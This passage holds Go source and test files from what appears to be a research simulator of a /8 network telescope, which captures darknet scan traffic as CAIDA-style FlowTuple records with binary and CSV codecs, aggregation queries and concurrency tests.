		w.darknetLen = gen.Run()
	})
	return w.darknetLen
}

// Sonar returns the simulated Project Sonar dataset.
func (w *World) Sonar() *datasets.Dataset {
	w.sonarOnce.Do(func() {
		w.sonar = datasets.ProjectSonar(w.Cfg.Seed+1, w.Universe)
	})
	return w.sonar
}

// Shodan returns the simulated Shodan dataset.
func (w *World) Shodan() *datasets.Dataset {
	w.shodanOnce.Do(func() {
		w.shodan = datasets.Shodan(w.Cfg.Seed+2, w.Universe)
	})
	return w.shodan
}

// PopulateCensys fills the Censys store once.
func (w *World) PopulateCensys() *intel.Censys {
	w.censysOnce.Do(func() {
		datasets.PopulateCensys(w.Cfg.Seed+3, w.Universe, w.Censys)
	})
	return w.Censys
}

// shared is the process-wide default world, built on first use so the
// benchmark suite amortizes setup across targets.
var (
	sharedMu sync.Mutex
	sharedW  *World
)

// Shared returns the process-wide default world.
func Shared() *World {
	sharedMu.Lock()
	defer sharedMu.Unlock()
	if sharedW == nil {
		sharedW = BuildWorld(DefaultConfig())
	}
	return sharedW
}
