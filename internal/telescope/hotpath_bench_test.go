package telescope

import (
	"sync/atomic"
	"testing"

	"openhire/internal/geo"
	"openhire/internal/netsim"
)

// BenchmarkTelescopeObserve measures concurrent flow ingest through the
// netsim.Observer path — the contention-sensitive hot path when attack
// modules probe the dark prefix from many goroutines at once. The
// before/after numbers live in BENCH_telescope.json.
func BenchmarkTelescopeObserve(b *testing.B) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), geo.NewDB(1, nil))
	var ctr atomic.Uint64
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		ev := netsim.ProbeEvent{
			Time:      netsim.ExperimentStart,
			Src:       netsim.Endpoint{Port: 40000},
			Dst:       netsim.Endpoint{IP: netsim.MustParseIPv4("44.1.1.1"), Port: 23},
			Transport: netsim.TCP, Kind: netsim.ProbeSYN, TTL: 52,
		}
		for pb.Next() {
			// ~100k distinct sources so map growth and hits both occur.
			ev.Src.IP = netsim.IPv4(ctr.Add(1) % 100000)
			tel.Observe(ev)
		}
	})
}

// BenchmarkTelescopeRecord measures the direct statistical-ingest path the
// darknet generator uses.
func BenchmarkTelescopeRecord(b *testing.B) {
	benchTelescopeRecord(b, false)
}

// BenchmarkTelescopeRecordReserved is the same ingest with the shard indexes
// pre-sized from the flow-count hint, isolating the rehash cost that Reserve
// removes from the generator's hot loop.
func BenchmarkTelescopeRecordReserved(b *testing.B) {
	benchTelescopeRecord(b, true)
}

func benchTelescopeRecord(b *testing.B, reserve bool) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	if reserve {
		tel.Reserve(b.N)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ft := sampleFlow()
		ft.SrcIP = netsim.IPv4(i % 100000)
		ft.SrcPort = uint16(i % 28232)
		tel.Record(ft)
	}
}
