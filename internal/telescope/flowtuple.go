// Package telescope implements the /8 network-telescope substrate: a
// darknet observer that captures unsolicited traffic as FlowTuple records
// (the CAIDA STARDUST format the paper parses, Section 3.4), with binary and
// CSV codecs, per-minute file rotation and the aggregation queries behind
// Table 8.
package telescope

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
	"time"

	"openhire/internal/netsim"
)

// FlowTuple is one aggregated flow record. Fields mirror the CAIDA
// FlowTuple v4 schema the paper lists: source/destination, ports, protocol,
// TTL, TCP flags, packet sizes and counts, geolocation and the is_spoofed /
// is_masscan annotations.
type FlowTuple struct {
	Time      time.Time
	SrcIP     netsim.IPv4
	DstIP     netsim.IPv4
	SrcPort   uint16
	DstPort   uint16
	Protocol  uint8 // IP protocol number: 6 TCP, 17 UDP
	TTL       uint8
	TCPFlags  uint8
	IPLen     uint16
	SynLen    uint16
	SynWinLen uint16
	PacketCnt uint32
	CountryCC string // ISO-ish country label
	ASN       uint32
	IsSpoofed bool
	IsMasscan bool
}

// IP protocol numbers.
const (
	ProtoTCP = 6
	ProtoUDP = 17
)

// TCP flag bits.
const (
	FlagFIN = 1 << 0
	FlagSYN = 1 << 1
	FlagRST = 1 << 2
	FlagACK = 1 << 4
)

// magic identifies the binary record format.
var magic = [4]byte{'F', 'T', '0', '4'}

// ErrBadRecord reports a corrupt binary record.
var ErrBadRecord = errors.New("telescope: bad flowtuple record")

// WriteBinary appends the record's binary encoding to w.
func (ft *FlowTuple) WriteBinary(w io.Writer) error {
	cc := ft.CountryCC
	if len(cc) > 255 {
		cc = cc[:255]
	}
	buf := make([]byte, 0, 48+len(cc))
	buf = append(buf, magic[:]...)
	buf = binary.BigEndian.AppendUint64(buf, uint64(ft.Time.UnixNano()))
	buf = binary.BigEndian.AppendUint32(buf, uint32(ft.SrcIP))
	buf = binary.BigEndian.AppendUint32(buf, uint32(ft.DstIP))
	buf = binary.BigEndian.AppendUint16(buf, ft.SrcPort)
	buf = binary.BigEndian.AppendUint16(buf, ft.DstPort)
	buf = append(buf, ft.Protocol, ft.TTL, ft.TCPFlags, boolByte(ft.IsSpoofed), boolByte(ft.IsMasscan))
	buf = binary.BigEndian.AppendUint16(buf, ft.IPLen)
	buf = binary.BigEndian.AppendUint16(buf, ft.SynLen)
	buf = binary.BigEndian.AppendUint16(buf, ft.SynWinLen)
	buf = binary.BigEndian.AppendUint32(buf, ft.PacketCnt)
	buf = binary.BigEndian.AppendUint32(buf, ft.ASN)
	buf = append(buf, byte(len(cc)))
	buf = append(buf, cc...)
	_, err := w.Write(buf)
	return err
}

func boolByte(b bool) byte {
	if b {
		return 1
	}
	return 0
}

// ReadBinary decodes one record from r. It returns io.EOF cleanly at end of
// stream.
func ReadBinary(r io.Reader) (*FlowTuple, error) {
	var hdr [4]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return nil, err // io.EOF at stream end
	}
	if hdr != magic {
		return nil, ErrBadRecord
	}
	fixed := make([]byte, 39)
	if _, err := io.ReadFull(r, fixed); err != nil {
		return nil, ErrBadRecord
	}
	ft := &FlowTuple{
		Time:      time.Unix(0, int64(binary.BigEndian.Uint64(fixed[0:8]))).UTC(),
		SrcIP:     netsim.IPv4(binary.BigEndian.Uint32(fixed[8:12])),
		DstIP:     netsim.IPv4(binary.BigEndian.Uint32(fixed[12:16])),
		SrcPort:   binary.BigEndian.Uint16(fixed[16:18]),
		DstPort:   binary.BigEndian.Uint16(fixed[18:20]),
		Protocol:  fixed[20],
		TTL:       fixed[21],
		TCPFlags:  fixed[22],
		IsSpoofed: fixed[23] == 1,
		IsMasscan: fixed[24] == 1,
		IPLen:     binary.BigEndian.Uint16(fixed[25:27]),
		SynLen:    binary.BigEndian.Uint16(fixed[27:29]),
		SynWinLen: binary.BigEndian.Uint16(fixed[29:31]),
		PacketCnt: binary.BigEndian.Uint32(fixed[31:35]),
		ASN:       binary.BigEndian.Uint32(fixed[35:39]),
	}
	var cclen [1]byte
	if _, err := io.ReadFull(r, cclen[:]); err != nil {
		return nil, ErrBadRecord
	}
	if cclen[0] > 0 {
		cc := make([]byte, cclen[0])
		if _, err := io.ReadFull(r, cc); err != nil {
			return nil, ErrBadRecord
		}
		ft.CountryCC = string(cc)
	}
	return ft, nil
}

// csvHeader is the CSV column list.
const csvHeader = "time,src_ip,dst_ip,src_port,dst_port,protocol,ttl,tcp_flags,ip_len,syn_len,syn_win_len,packet_cnt,country,asn,is_spoofed,is_masscan"

// WriteCSVHeader writes the header line.
func WriteCSVHeader(w io.Writer) error {
	_, err := io.WriteString(w, csvHeader+"\n")
	return err
}

// WriteCSV appends the record as a CSV line.
func (ft *FlowTuple) WriteCSV(w io.Writer) error {
	_, err := fmt.Fprintf(w, "%d,%s,%s,%d,%d,%d,%d,%d,%d,%d,%d,%d,%s,%d,%t,%t\n",
		ft.Time.UnixNano(), ft.SrcIP, ft.DstIP, ft.SrcPort, ft.DstPort,
		ft.Protocol, ft.TTL, ft.TCPFlags, ft.IPLen, ft.SynLen, ft.SynWinLen,
		ft.PacketCnt, csvEscape(ft.CountryCC), ft.ASN, ft.IsSpoofed, ft.IsMasscan)
	return err
}

func csvEscape(s string) string {
	return strings.ReplaceAll(s, ",", ";")
}

// ParseCSV decodes one CSV line (header lines are rejected).
func ParseCSV(line string) (*FlowTuple, error) {
	fields := strings.Split(strings.TrimSpace(line), ",")
	if len(fields) != 16 {
		return nil, fmt.Errorf("telescope: want 16 CSV fields, got %d", len(fields))
	}
	if fields[0] == "time" {
		return nil, errors.New("telescope: header line")
	}
	nanos, err := strconv.ParseInt(fields[0], 10, 64)
	if err != nil {
		return nil, err
	}
	src, err := netsim.ParseIPv4(fields[1])
	if err != nil {
		return nil, err
	}
	dst, err := netsim.ParseIPv4(fields[2])
	if err != nil {
		return nil, err
	}
	u := func(i int, bits int) uint64 {
		v, convErr := strconv.ParseUint(fields[i], 10, bits)
		if convErr != nil {
			err = convErr
		}
		return v
	}
	ft := &FlowTuple{
		Time: time.Unix(0, nanos).UTC(), SrcIP: src, DstIP: dst,
		SrcPort: uint16(u(3, 16)), DstPort: uint16(u(4, 16)),
		Protocol: uint8(u(5, 8)), TTL: uint8(u(6, 8)), TCPFlags: uint8(u(7, 8)),
		IPLen: uint16(u(8, 16)), SynLen: uint16(u(9, 16)), SynWinLen: uint16(u(10, 16)),
		PacketCnt: uint32(u(11, 32)), CountryCC: fields[12], ASN: uint32(u(13, 32)),
	}
	if err != nil {
		return nil, err
	}
	ft.IsSpoofed = fields[14] == "true"
	ft.IsMasscan = fields[15] == "true"
	return ft, nil
}

// ReadCSV parses all records from r, skipping the header if present.
func ReadCSV(r io.Reader) ([]*FlowTuple, error) {
	var out []*FlowTuple
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 64*1024), 1024*1024)
	for sc.Scan() {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "time,") {
			continue
		}
		ft, err := ParseCSV(line)
		if err != nil {
			return out, err
		}
		out = append(out, ft)
	}
	return out, sc.Err()
}
