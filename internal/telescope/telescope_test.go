package telescope

import (
	"bytes"
	"testing"
	"testing/quick"
	"time"

	"openhire/internal/geo"
	"openhire/internal/iot"
	"openhire/internal/netsim"
)

func sampleFlow() *FlowTuple {
	return &FlowTuple{
		Time:    time.Date(2021, 4, 3, 12, 30, 0, 0, time.UTC),
		SrcIP:   netsim.MustParseIPv4("203.0.113.7"),
		DstIP:   netsim.MustParseIPv4("44.1.2.3"),
		SrcPort: 40000, DstPort: 23,
		Protocol: ProtoTCP, TTL: 52, TCPFlags: FlagSYN,
		IPLen: 40, SynLen: 44, SynWinLen: 65535, PacketCnt: 3,
		CountryCC: "China", ASN: 4134, IsSpoofed: false, IsMasscan: true,
	}
}

func TestBinaryRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	want := sampleFlow()
	if err := want.WriteBinary(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := ReadBinary(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if *got != *want {
		t.Fatalf("got %+v, want %+v", got, want)
	}
}

func TestBinaryRoundTripProperty(t *testing.T) {
	if err := quick.Check(func(src, dst uint32, sp, dp uint16, ttl uint8, cnt uint32, spoofed bool) bool {
		ft := &FlowTuple{
			Time:  time.Unix(0, 1617000000000000000).UTC(),
			SrcIP: netsim.IPv4(src), DstIP: netsim.IPv4(dst),
			SrcPort: sp, DstPort: dp, Protocol: ProtoUDP, TTL: ttl,
			PacketCnt: cnt, CountryCC: "USA", IsSpoofed: spoofed,
		}
		var buf bytes.Buffer
		if err := ft.WriteBinary(&buf); err != nil {
			return false
		}
		got, err := ReadBinary(&buf)
		return err == nil && *got == *ft
	}, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestBinaryRejectsCorrupt(t *testing.T) {
	if _, err := ReadBinary(bytes.NewReader([]byte("XXXXgarbage-here-too"))); err != ErrBadRecord {
		t.Fatalf("err = %v", err)
	}
}

func TestBinaryStream(t *testing.T) {
	var buf bytes.Buffer
	for i := 0; i < 5; i++ {
		ft := sampleFlow()
		ft.SrcPort = uint16(1000 + i)
		if err := ft.WriteBinary(&buf); err != nil {
			t.Fatal(err)
		}
	}
	n := 0
	for {
		_, err := ReadBinary(&buf)
		if err != nil {
			break
		}
		n++
	}
	if n != 5 {
		t.Fatalf("read %d records", n)
	}
}

func TestCSVRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSVHeader(&buf); err != nil {
		t.Fatal(err)
	}
	want := sampleFlow()
	if err := want.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	records, err := ReadCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 1 || *records[0] != *want {
		t.Fatalf("records %+v", records)
	}
}

func TestCSVRejectsBadLines(t *testing.T) {
	for _, line := range []string{"a,b,c", "not,enough,fields,at,all"} {
		if _, err := ParseCSV(line); err == nil {
			t.Errorf("parsed %q", line)
		}
	}
}

func TestObserveAggregatesFlows(t *testing.T) {
	prefix := netsim.MustParsePrefix("44.0.0.0/8")
	tel := New(prefix, geo.NewDB(1, nil))
	ev := netsim.ProbeEvent{
		Time:      netsim.ExperimentStart,
		Src:       netsim.Endpoint{IP: netsim.MustParseIPv4("9.8.7.6"), Port: 40000},
		Dst:       netsim.Endpoint{IP: netsim.MustParseIPv4("44.1.1.1"), Port: 23},
		Transport: netsim.TCP, Kind: netsim.ProbeSYN, TTL: 52,
	}
	for i := 0; i < 3; i++ {
		tel.Observe(ev)
	}
	flows := tel.Flows()
	if len(flows) != 1 {
		t.Fatalf("flows %d", len(flows))
	}
	if flows[0].PacketCnt != 3 || flows[0].TCPFlags != FlagSYN || flows[0].CountryCC == "" {
		t.Fatalf("flow %+v", flows[0])
	}
}

func TestObserveIgnoresOutsidePrefix(t *testing.T) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	tel.Observe(netsim.ProbeEvent{
		Dst: netsim.Endpoint{IP: netsim.MustParseIPv4("45.0.0.1"), Port: 23},
	})
	if tel.Len() != 0 {
		t.Fatal("captured traffic outside prefix")
	}
}

func TestObserveUDPSizes(t *testing.T) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	tel.Observe(netsim.ProbeEvent{
		Time: netsim.ExperimentStart,
		Src:  netsim.Endpoint{IP: 1, Port: 9}, Dst: netsim.Endpoint{IP: netsim.MustParseIPv4("44.2.2.2"), Port: 5683},
		Transport: netsim.UDP, Kind: netsim.ProbeUDP, Size: 21, TTL: 64, Masscan: true,
	})
	flows := tel.Flows()
	if flows[0].Protocol != ProtoUDP || flows[0].IPLen != 49 || !flows[0].IsMasscan {
		t.Fatalf("flow %+v", flows[0])
	}
}

func TestDrainClears(t *testing.T) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	tel.Record(sampleFlow())
	if got := tel.Drain(); len(got) != 1 {
		t.Fatalf("drained %d", len(got))
	}
	if tel.Len() != 0 {
		t.Fatal("drain did not clear")
	}
}

func TestRecordMergesDuplicates(t *testing.T) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	tel.Record(sampleFlow())
	tel.Record(sampleFlow())
	flows := tel.Flows()
	if len(flows) != 1 || flows[0].PacketCnt != 6 {
		t.Fatalf("flows %+v", flows)
	}
}

func TestProtocolOfPort(t *testing.T) {
	cases := map[uint16]iot.Protocol{
		23: iot.ProtoTelnet, 2323: iot.ProtoTelnet, 1883: iot.ProtoMQTT,
		5683: iot.ProtoCoAP, 5672: iot.ProtoAMQP, 5222: iot.ProtoXMPP,
		5269: iot.ProtoXMPP, 1900: iot.ProtoUPnP,
	}
	for port, want := range cases {
		got, ok := ProtocolOfPort(port)
		if !ok || got != want {
			t.Errorf("port %d: %v, %v", port, got, ok)
		}
	}
	if _, ok := ProtocolOfPort(80); ok {
		t.Fatal("port 80 bucketed")
	}
}

func TestAggregateByProtocolOrdering(t *testing.T) {
	mk := func(port uint16, src uint32, packets uint32) *FlowTuple {
		return &FlowTuple{SrcIP: netsim.IPv4(src), DstIP: netsim.MustParseIPv4("44.1.2.3"),
			SrcPort: 4000, DstPort: port, Protocol: ProtoTCP, PacketCnt: packets}
	}
	flows := []*FlowTuple{
		mk(23, 1, 100), mk(23, 2, 100), mk(1883, 3, 30),
		mk(5683, 4, 10), mk(80, 5, 999), // port 80 ignored
	}
	stats := AggregateByProtocol(flows)
	if len(stats) != 3 {
		t.Fatalf("stats %+v", stats)
	}
	if stats[0].Protocol != iot.ProtoTelnet || stats[0].Packets != 200 || stats[0].UniqueIPs != 2 {
		t.Fatalf("telnet row %+v", stats[0])
	}
	if stats[1].Protocol != iot.ProtoMQTT || stats[2].Protocol != iot.ProtoCoAP {
		t.Fatalf("ordering %+v", stats)
	}
}

func TestUniqueSources(t *testing.T) {
	flows := []*FlowTuple{
		{SrcIP: 1}, {SrcIP: 2}, {SrcIP: 1},
	}
	if got := UniqueSources(flows); len(got) != 2 {
		t.Fatalf("unique %v", got)
	}
}

func TestHourlyBuckets(t *testing.T) {
	start := netsim.ExperimentStart
	flows := []*FlowTuple{
		{Time: start.Add(30 * time.Minute), PacketCnt: 5},
		{Time: start.Add(90 * time.Minute), PacketCnt: 7},
		{Time: start.Add(-time.Hour), PacketCnt: 100},      // before window
		{Time: start.Add(100 * time.Hour), PacketCnt: 100}, // after window
	}
	buckets := HourlyBuckets(flows, start, 3)
	if buckets[0] != 5 || buckets[1] != 7 || buckets[2] != 0 {
		t.Fatalf("buckets %v", buckets)
	}
}

func BenchmarkObserve(b *testing.B) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), geo.NewDB(1, nil))
	ev := netsim.ProbeEvent{
		Time:      netsim.ExperimentStart,
		Src:       netsim.Endpoint{IP: 123456, Port: 40000},
		Dst:       netsim.Endpoint{IP: netsim.MustParseIPv4("44.1.1.1"), Port: 23},
		Transport: netsim.TCP, Kind: netsim.ProbeSYN, TTL: 52,
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		ev.Src.IP = netsim.IPv4(i % 100000)
		tel.Observe(ev)
	}
}

func BenchmarkBinaryWrite(b *testing.B) {
	ft := sampleFlow()
	var buf bytes.Buffer
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		buf.Reset()
		if err := ft.WriteBinary(&buf); err != nil {
			b.Fatal(err)
		}
	}
}
