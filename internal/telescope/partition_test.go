package telescope

import (
	"testing"
	"time"

	"openhire/internal/netsim"
)

// TestPartitionByHour asserts the per-hour split windows exactly like
// HourlyBuckets — bucket i's packet total equals the flows grouped into slot
// i — drops flows outside [start, start+hours h), keeps relative order, and
// never loses an in-window flow.
func TestPartitionByHour(t *testing.T) {
	start := netsim.ExperimentStart
	mk := func(offset time.Duration, pkts uint32, src uint32) *FlowTuple {
		return &FlowTuple{Time: start.Add(offset), PacketCnt: pkts,
			SrcIP: netsim.IPv4(src), DstPort: 23, Protocol: ProtoTCP}
	}
	flows := []*FlowTuple{
		mk(-time.Minute, 9, 1),            // before the window: dropped
		mk(0, 2, 2),                       // hour 0, first
		mk(30*time.Minute, 3, 3),          // hour 0, second
		mk(time.Hour, 5, 4),               // hour 1
		mk(2*time.Hour+time.Minute, 7, 5), // hour 2
		mk(3*time.Hour, 11, 6),            // past the window: dropped
	}
	const hours = 3
	parts := PartitionByHour(flows, start, hours)
	if len(parts) != hours {
		t.Fatalf("%d slots, want %d", len(parts), hours)
	}
	wantLens := []int{2, 1, 1}
	for h, want := range wantLens {
		if len(parts[h]) != want {
			t.Fatalf("hour %d holds %d flows, want %d", h, len(parts[h]), want)
		}
	}
	if parts[0][0].SrcIP != 2 || parts[0][1].SrcIP != 3 {
		t.Fatalf("hour 0 order not preserved: %v, %v", parts[0][0].SrcIP, parts[0][1].SrcIP)
	}

	// Reconcile against HourlyBuckets: same windowing, packet totals agree.
	buckets := HourlyBuckets(flows, start, hours)
	for h := 0; h < hours; h++ {
		var sum uint64
		for _, ft := range parts[h] {
			sum += uint64(ft.PacketCnt)
		}
		if sum != buckets[h] {
			t.Fatalf("hour %d: partition total %d, HourlyBuckets %d", h, sum, buckets[h])
		}
	}
}
