package telescope

import (
	"bytes"
	"sync"
	"testing"
	"time"

	"openhire/internal/netsim"
)

// TestFlowsMutationIsolation pins the Flows contract: every returned record
// is a deep copy, so callers (the report pipelines rewrite rows in place) can
// mutate freely without corrupting the capture.
func TestFlowsMutationIsolation(t *testing.T) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	tel.Record(sampleFlow())

	first := tel.Flows()
	if len(first) != 1 {
		t.Fatalf("flows %d, want 1", len(first))
	}
	first[0].PacketCnt = 9999
	first[0].CountryCC = "XX"
	first[0].SrcIP = 0

	second := tel.Flows()
	if second[0].PacketCnt == 9999 || second[0].CountryCC == "XX" || second[0].SrcIP == 0 {
		t.Fatalf("mutating a Flows() result leaked into the capture: %+v", second[0])
	}
}

// TestDrainHandsOverAndClears pins the Drain contract: the live records are
// handed over (no copy) and the capture starts empty.
func TestDrainHandsOverAndClears(t *testing.T) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	tel.Record(sampleFlow())
	drained := tel.Drain()
	if len(drained) != 1 {
		t.Fatalf("drained %d, want 1", len(drained))
	}
	if tel.Len() != 0 || len(tel.Flows()) != 0 {
		t.Fatal("telescope not empty after Drain")
	}
	// The next window accumulates independently.
	tel.Record(sampleFlow())
	if tel.Len() != 1 {
		t.Fatalf("post-drain capture has %d flows, want 1", tel.Len())
	}
}

// TestRecordBatchOrdinalOrder verifies that batches committed out of ordinal
// order still read back in ordinal order, and that a key colliding across
// batches merges as if ingested sequentially: the smaller ordinal's record
// survives and absorbs the other's packet count.
func TestRecordBatchOrdinalOrder(t *testing.T) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), nil)

	mk := func(src uint32, pkts uint32, ttl uint8) FlowTuple {
		return FlowTuple{
			Time: time.Date(2021, 4, 1, 0, 0, 0, 0, time.UTC), SrcIP: netsim.IPv4(src),
			DstIP: netsim.MustParseIPv4("44.1.1.1"), SrcPort: 40000, DstPort: 23,
			Protocol: ProtoTCP, TTL: ttl, PacketCnt: pkts,
		}
	}
	// Commit the higher ordinal range first: scheduling must not matter.
	tel.RecordBatch(2000, []FlowTuple{mk(5, 7, 64), mk(6, 1, 64)})
	tel.RecordBatch(1000, []FlowTuple{mk(1, 2, 32), mk(5, 3, 32)}) // src 5 collides

	flows := tel.Flows()
	if len(flows) != 3 {
		t.Fatalf("flows %d, want 3 (one merged)", len(flows))
	}
	wantSrc := []netsim.IPv4{1, 5, 6} // ordinal order: 1000, 1001(merged wins over 2000), 2001
	for i, want := range wantSrc {
		if flows[i].SrcIP != want {
			t.Fatalf("flow %d src %d, want %d", i, flows[i].SrcIP, want)
		}
	}
	merged := flows[1]
	if merged.PacketCnt != 10 {
		t.Fatalf("merged packet count %d, want 10", merged.PacketCnt)
	}
	if merged.TTL != 32 {
		t.Fatalf("merged record kept TTL %d; the smaller ordinal (TTL 32) must win", merged.TTL)
	}
}

// TestConcurrentObserveMatchesSequential feeds the same probe stream to two
// telescopes — one from a single goroutine, one from eight — and requires the
// aggregated flow sets to be identical.
func TestConcurrentObserveMatchesSequential(t *testing.T) {
	prefix := netsim.MustParsePrefix("44.0.0.0/8")
	events := make([]netsim.ProbeEvent, 4000)
	for i := range events {
		events[i] = netsim.ProbeEvent{
			Time: time.Date(2021, 4, 1, 0, 0, i%60, 0, time.UTC),
			Src:  netsim.Endpoint{IP: netsim.IPv4(i % 977), Port: uint16(40000 + i%50)},
			Dst: netsim.Endpoint{IP: netsim.MustParseIPv4("44.1.1.1") + netsim.IPv4(i%13),
				Port: 23},
			Transport: netsim.TCP, Kind: netsim.ProbeSYN, TTL: 52,
		}
	}

	seq := New(prefix, nil)
	for _, ev := range events {
		seq.Observe(ev)
	}

	par := New(prefix, nil)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := w; i < len(events); i += 8 {
				par.Observe(events[i])
			}
		}(w)
	}
	wg.Wait()

	a, b := seq.Flows(), par.Flows()
	if len(a) != len(b) {
		t.Fatalf("flow counts differ: %d vs %d", len(a), len(b))
	}
	// Arrival ordinals race under concurrency, so compare as key-sorted sets.
	key := func(ft *FlowTuple) uint64 {
		return uint64(ft.SrcIP)<<32 | uint64(ft.SrcPort)<<16 | uint64(ft.DstIP&0xffff)
	}
	byKey := func(flows []*FlowTuple) map[uint64]uint32 {
		m := make(map[uint64]uint32, len(flows))
		for _, ft := range flows {
			m[key(ft)] += ft.PacketCnt
		}
		return m
	}
	ma, mb := byKey(a), byKey(b)
	for k, v := range ma {
		if mb[k] != v {
			t.Fatalf("packet count for key %x: sequential %d, concurrent %d", k, v, mb[k])
		}
	}
}

// TestRecordBatchLargeUsesHeapScratch covers the >256-record path, which
// sorts in heap scratch instead of the stack arrays.
func TestRecordBatchLargeUsesHeapScratch(t *testing.T) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	fts := make([]FlowTuple, 700)
	for i := range fts {
		fts[i] = FlowTuple{
			Time: time.Date(2021, 4, 1, 0, 0, 0, 0, time.UTC), SrcIP: netsim.IPv4(i),
			DstIP: netsim.MustParseIPv4("44.2.2.2"), SrcPort: uint16(1000 + i), DstPort: 1883,
			Protocol: ProtoTCP, PacketCnt: 1,
		}
	}
	tel.RecordBatch(100, fts)
	flows := tel.Flows()
	if len(flows) != 700 {
		t.Fatalf("flows %d, want 700", len(flows))
	}
	for i, ft := range flows {
		if ft.SrcIP != netsim.IPv4(i) {
			t.Fatalf("flow %d out of ordinal order: src %d", i, ft.SrcIP)
		}
	}
}

// TestFlowsCSVStableAcrossSnapshots guards the dump path the equivalence
// tests rely on: two snapshots of one telescope serialize identically.
func TestFlowsCSVStableAcrossSnapshots(t *testing.T) {
	tel := New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	for i := 0; i < 100; i++ {
		ft := sampleFlow()
		ft.SrcIP = netsim.IPv4(i * 7)
		ft.SrcPort = uint16(1000 + i)
		tel.Record(ft)
	}
	dump := func() []byte {
		var buf bytes.Buffer
		for _, ft := range tel.Flows() {
			if err := ft.WriteCSV(&buf); err != nil {
				t.Fatal(err)
			}
		}
		return buf.Bytes()
	}
	if a, b := dump(), dump(); !bytes.Equal(a, b) {
		t.Fatal("two snapshots of the same capture serialized differently")
	}
}

// TestReservePreSizesWithoutChangingCapture pins the Reserve contract: a
// pre-sized table must produce the byte-identical capture as a cold one, the
// pre-sized shards must not rehash during ingest when the hint covers the
// load, and Reserve never shrinks an index that is already wider.
func TestReservePreSizesWithoutChangingCapture(t *testing.T) {
	prefix := netsim.MustParsePrefix("44.0.0.0/8")
	const flows = 100_000

	feed := func(tel *Telescope) {
		for i := 0; i < flows; i++ {
			ft := sampleFlow()
			ft.SrcIP = netsim.IPv4(uint32(i)*2654435761 + 7)
			ft.SrcPort = uint16(i)
			tel.Record(ft)
		}
	}

	cold := New(prefix, nil)
	feed(cold)

	warm := New(prefix, nil)
	warm.Reserve(flows)
	sized := make([]int, numShards)
	for i := range warm.shards {
		sized[i] = len(warm.shards[i].slots)
	}
	feed(warm)
	for i := range warm.shards {
		if got := len(warm.shards[i].slots); got != sized[i] {
			t.Fatalf("shard %d rehashed during ingest: %d slots, reserved %d", i, got, sized[i])
		}
	}

	dump := func(tel *Telescope) []byte {
		var buf bytes.Buffer
		for _, ft := range tel.Flows() {
			if err := ft.WriteCSV(&buf); err != nil {
				t.Fatal(err)
			}
		}
		return buf.Bytes()
	}
	if a, b := dump(cold), dump(warm); !bytes.Equal(a, b) {
		t.Fatal("pre-sized capture serialized differently from cold capture")
	}

	wide := len(warm.shards[0].slots)
	warm.Reserve(1)
	if got := len(warm.shards[0].slots); got != wide {
		t.Fatalf("Reserve with a small hint shrank shard 0: %d slots, was %d", got, wide)
	}
}
