package telescope

import (
	"encoding/json"
	"testing"
	"time"

	"openhire/internal/netsim"
)

// testFlow derives a deterministic flow from an index. Indices that share
// i%17 collide on the aggregation key (same 5-tuple), exercising the merge
// path; the rest of the fields vary so corruption of any one would surface.
func testFlow(i int) FlowTuple {
	k := i % 17
	return FlowTuple{
		Time:    time.Date(2021, 4, 3, 0, 0, i, 0, time.UTC),
		SrcIP:   netsim.IPv4(0xCB007100 + uint32(k)), // 203.0.113.x
		DstIP:   netsim.IPv4(0x2C010200 + uint32(k)), // 44.1.2.x
		SrcPort: uint16(40000 + k), DstPort: 23,
		Protocol: ProtoTCP, TTL: uint8(40 + i%60), TCPFlags: FlagSYN,
		IPLen: 40, SynLen: 44, SynWinLen: uint16(1024 + i),
		PacketCnt: uint32(1 + i%5),
		CountryCC: "China", ASN: uint32(4000 + i%7),
		IsSpoofed: i%3 == 0, IsMasscan: i%4 == 0,
	}
}

// dumpJSON marshals a telescope's state for byte-level comparison.
func dumpJSON(t *testing.T, tel *Telescope) string {
	t.Helper()
	data, err := json.Marshal(tel.Dump())
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func newTestTelescope() *Telescope {
	return New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
}

// TestDumpRestoreRoundTrip asserts Restore(Dump(state)) identity: a restored
// telescope reports the same flows in the same order and re-dumps to the
// same bytes, including merged duplicate keys and the ordinal allocator.
func TestDumpRestoreRoundTrip(t *testing.T) {
	a := newTestTelescope()
	for i := 0; i < 120; i++ {
		f := testFlow(i)
		a.Record(&f)
	}
	st := a.Dump()
	if len(st.Flows) != 17 {
		t.Fatalf("expected 17 aggregated flows, got %d", len(st.Flows))
	}

	b := newTestTelescope()
	b.Restore(st)
	if got, want := dumpJSON(t, b), dumpJSON(t, a); got != want {
		t.Fatal("restored telescope re-dumps to different bytes")
	}
